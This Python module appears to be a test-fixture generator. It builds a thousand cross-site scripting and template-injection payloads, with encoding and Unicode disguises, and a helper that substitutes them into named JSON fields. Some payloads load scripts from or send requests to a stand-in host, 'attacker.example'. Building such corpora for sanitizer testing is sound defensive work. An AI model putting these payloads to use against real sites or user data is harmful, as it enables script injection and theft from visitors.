"""A thousand texts that try to become a script, made from what such texts consist of: context, element, action, disguise."""

from __future__ import annotations

import functools
import itertools
import json
from collections.abc import Callable, Iterable, Iterator
from typing import Any
from urllib.parse import quote

COUNT = 1_000
MOST_CHARS = 78
"""So that one fits into every field that people name things in."""

ELSEWHERE = "//attacker.example"
OPENINGS = (
    "",
    '">',
    "'>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</script>",
    "</template>",
    "</style>",
    '\\">',
    "`>",
)
ACTIONS = ("alert(1)", f"fetch('{ELSEWHERE}')", "confirm`1`", "parent.x=1", f"import('{ELSEWHERE}/x')", "print()")
ELEMENTS = (
    ("img src=x", "onerror"),
    ("svg", "onload"),
    ("body", "onpageshow"),
    ("details open", "ontoggle"),
    ("input autofocus", "onfocus"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("select autofocus", "onfocus"),
    ("object data=x", "onerror"),
    ("svg><animate", "onbegin"),
    ("math><mi tabindex=1 autofocus", "onfocus"),
    ("xss contenteditable autofocus", "onfocus"),
    ("marquee", "onstart"),
    ("iframe", "onload"),
)
WHOLE = (
    "<script>{}</script>",
    "<script src={elsewhere}/a.js></script>",
    "<iframe src=javascript:{}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<a href=javascript:{}>x</a>",
    "<base href={elsewhere}>",
    "<link rel=stylesheet href={elsewhere}>",
    "<meta http-equiv=refresh content='0;{elsewhere}'>",
    "<img src={elsewhere}/i.png>",
    "<style>@import'{elsewhere}'</style>",
    "<form action={elsewhere}><button autofocus>x",
    "<embed src=javascript:{}>",
    "<svg><script>{}</script></svg>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
)
FOR_TEMPLATES = (
    "{{{{{}}}}}",
    "${{{}}}",
    "<%= {} %>",
    "{{% print({}) %}}",
    "#{{{}}}",
    "%({})s",
    "javascript:{}",
    "data:text/html,{}",
)
DISGUISES: tuple[Callable[[str], str], ...] = (
    str,
    str.upper,
    str.swapcase,
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace("<", "<\u200b"),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: "".join(f"&#{ord(c)};" if c in "<>\"'" else c for c in text),
    lambda text: "".join(f"&#x{ord(c):x};" if c in "<>=" else c for c in text),
    lambda text: quote(text, safe="=/ "),
    lambda text: json.dumps(text.replace("<", "\\u003c")),
    lambda text: text.translate({ord("<"): "\uff1c", ord(">"): "\uff1e"}),
    lambda text: f"\u202e{text}",
)
"""The last one turns the direction of writing over."""


@functools.cache
def hostile_strings() -> tuple[str, ...]:
    """``COUNT`` different ones, each in one line without blanks at its ends."""
    found = dict.fromkeys(text for text in _all() if len(text) <= MOST_CHARS and text == text.strip())
    # From all over, not the first of one kind.
    step = len(found) // COUNT
    assert step >= 1
    return tuple(list(found)[::step][:COUNT])


def poisoned(value: Any, names: Iterable[str], texts: Iterator[str]) -> Any:
    """The JSON ``value`` with the next of ``texts`` for every text in a field of one of ``names``."""
    if isinstance(value, list):
        return [poisoned(each, names, texts) for each in value]
    if not isinstance(value, dict):
        return value
    return {
        name: _poison(each, texts) if name in names else poisoned(each, names, texts) for name, each in value.items()
    }


def _poison(value: Any, texts: Iterator[str]) -> Any:
    if isinstance(value, list):
        return [_poison(each, texts) for each in value] if all(isinstance(each, str) for each in value) else value
    return next(texts) if isinstance(value, str) else value


def _all() -> Iterator[str]:
    for disguise, text in itertools.product(DISGUISES, _plain()):
        yield disguise(text)


def _plain() -> Iterator[str]:
    for opening, (element, event), action in itertools.product(OPENINGS, ELEMENTS, ACTIONS):
        yield f"{opening}<{element} {event}={action}>"
    for opening, whole, action in itertools.product(OPENINGS, WHOLE, ACTIONS):
        yield opening + whole.format(action, elsewhere=ELSEWHERE)
    for template, action in itertools.product(
        FOR_TEMPLATES, (*ACTIONS, "7*7", "self.__init__", "constructor.constructor")
    ):
        yield template.format(action)
    for event, action in itertools.product(sorted({event for _, event in ELEMENTS}), ACTIONS):
        yield f'" {event}="{action}'
        yield f"' {event}='{action}"
